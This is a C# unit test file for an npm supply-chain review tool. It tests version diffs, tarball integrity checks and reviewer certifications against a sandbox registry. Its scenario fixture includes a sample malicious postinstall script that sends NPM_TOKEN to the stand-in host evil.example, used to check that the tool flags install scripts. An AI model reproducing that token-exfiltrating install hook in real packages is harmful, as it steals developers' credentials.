using Vouch.Npm;
using Vouch.Npm.Lockfiles;
using Vouch.Reviews.Records;
using Vouch.Reviews.Tarballs;
using Vouch.Sandbox;

namespace Vouch.Reviews.Tests;

/// <summary>diff, certify and suggest against the in-process sandbox registry (never the npm mirror).</summary>
public sealed class SandboxRegistryTests
{
    private const string ScenarioYaml = """
        name: reviews
        packages:
          - name: tiny-lib
            versions:
              - version: 1.0.0
                published: -30d
              - version: 1.1.0
                published: -20d
                files: { "lib/util.js": "module.exports = 1;\n" }
              - version: 1.2.0
                published: -10d
                dependencies: { helper-lib: ^1.0.0 }
                scripts: { postinstall: "node collect.js" }
                files: { "collect.js": "require('https').get('https://evil.example/' + process.env.NPM_TOKEN);\n", "lib/util.js": "module.exports = 2;\n" }
          - name: helper-lib
            versions:
              - version: 1.0.0
                published: -30d
        """;

    private sealed class Registry : IAsyncDisposable
    {
        private readonly SandboxRegistry _registry;

        private Registry(SandboxRegistry registry)
        {
            _registry = registry;
            var home = Directory.CreateTempSubdirectory("vouch-reviews-home-").FullName;
            var config = NpmConfig.Load(new NpmConfigOptions { WorkingDirectory = home, HomeDirectory = home, RegistryOverride = registry.Url });
            Client = new RegistryClient(RegistryClient.CreateDefaultHandler(), config, null, TimeProvider.System, new RegistryClientOptions { MaxRetries = 0 }, disposeHandler: true);
            Service = new ReviewService(new TarballSource(Client), TimeProvider.System);
        }

        public RegistryClient Client { get; }

        public ReviewService Service { get; }

        public static async Task<Registry> StartAsync() =>
            new(await SandboxRegistry.StartAsync(Vouch.Sandbox.Scenario.Parse(ScenarioYaml, "reviews.yml"), new SandboxOptions()));

        public async ValueTask DisposeAsync()
        {
            Client.Dispose();
            await _registry.DisposeAsync();
        }
    }

    [Fact]
    public async Task DiffAsync_WhenNewVersionAddsPostinstallAndDependency_ListsThemFirst()
    {
        await using var registry = await Registry.StartAsync();
        var (diff, failure) = await registry.Service.DiffAsync("tiny-lib", "1.1.0", "1.2.0", CancellationToken.None);
        Assert.Null(failure);
        Assert.Equal(DiffFindingKind.InstallScript, diff!.Findings[0].Kind);
        Assert.Contains(diff.Findings, f => f.Kind == DiffFindingKind.NewDependency && f.Message.Contains("helper-lib", StringComparison.Ordinal));
        Assert.Contains(diff.Files, f => f.Path == "collect.js" && f.Change == FileChange.Added);
        Assert.Contains(diff.Files, f => f.Path == "lib/util.js" && f.Change == FileChange.Changed);
        var html = TarballDiff.ToHtml(diff);
        Assert.Contains("postinstall", html, StringComparison.Ordinal);
        Assert.DoesNotContain("'https://evil", html, StringComparison.Ordinal); // nothing from the tarball is written unencoded
    }

    [Fact]
    public async Task FetchAsync_WhenLockfileIntegrityIsOfOtherBytes_FailsWithTarballIntegrity()
    {
        await using var registry = await Registry.StartAsync();
        var other = "sha512-" + Convert.ToBase64String(System.Security.Cryptography.SHA512.HashData("other bytes"u8.ToArray()));
        var fetch = await registry.Service.FetchAsync("tiny-lib", "1.2.0", other, CancellationToken.None);
        Assert.Equal(ReviewCodes.TarballIntegrity, fetch.Code);
        Assert.False(fetch.NetworkError);
    }

    [Fact]
    public async Task CertifyThenCheck_WhenDeltaChainRecorded_CoversLockedVersion_AndSuggestPricesTheGap()
    {
        await using var registry = await Registry.StartAsync();
        var dir = Directory.CreateTempSubdirectory("vouch-reviews-store-").FullName;
        var lockfile = new Lockfile
        {
            Path = "package-lock.json",
            Format = LockfileFormat.NpmV3,
            Packages = [new LockfilePackage { Name = "tiny-lib", Version = "1.2.0" }],
        };

        var (first, f1) = await registry.Service.CertifyAsync(dir, "tiny-lib", "1.0.0", null, ["safe-to-deploy"], "alice", "full read", null, CancellationToken.None);
        Assert.Null(f1);
        Assert.NotNull(first);
        await registry.Service.CertifyAsync(dir, "tiny-lib", "1.1.0", "1.0.0", ["safe-to-deploy"], "bob", null, null, CancellationToken.None);

        var before = ReviewCheck.Run(SupplyChain.Load(dir), lockfile, TimeProvider.System);
        Assert.False(before.Ok);
        var (suggestions, problems) = await registry.Service.SuggestAsync(before.Coverage, lockfile, 3, CancellationToken.None);
        Assert.Empty(problems);
        var best = Assert.Single(suggestions);
        Assert.Equal("1.1.0", best.DeltaFrom); // the nearest covered version is the cheapest base

        await registry.Service.CertifyAsync(dir, "tiny-lib", "1.2.0", "1.1.0", ["safe-to-deploy"], "carol", "postinstall checked", null, CancellationToken.None);
        var after = ReviewCheck.Run(SupplyChain.Load(dir), lockfile, TimeProvider.System);
        Assert.True(after.Ok);
        Assert.Equal(["1.0.0", "1.1.0", "1.2.0"], after.Coverage.Packages[0].Criteria[0].Path.Select(s => s.To));
    }

    [Fact]
    public async Task CertifyAsync_WhenCriterionUnknown_WritesNothing()
    {
        await using var registry = await Registry.StartAsync();
        var dir = Directory.CreateTempSubdirectory("vouch-reviews-store-").FullName;
        var e = await Assert.ThrowsAsync<ReviewFormatException>(() => registry.Service.CertifyAsync(dir, "tiny-lib", "1.0.0", null, ["safe-to-fly"], "alice", null, null, CancellationToken.None));
        Assert.Equal(ReviewCodes.UnknownCriterion, e.Code);
        Assert.False(File.Exists(Path.Combine(dir, "audits.toml")));
    }
}
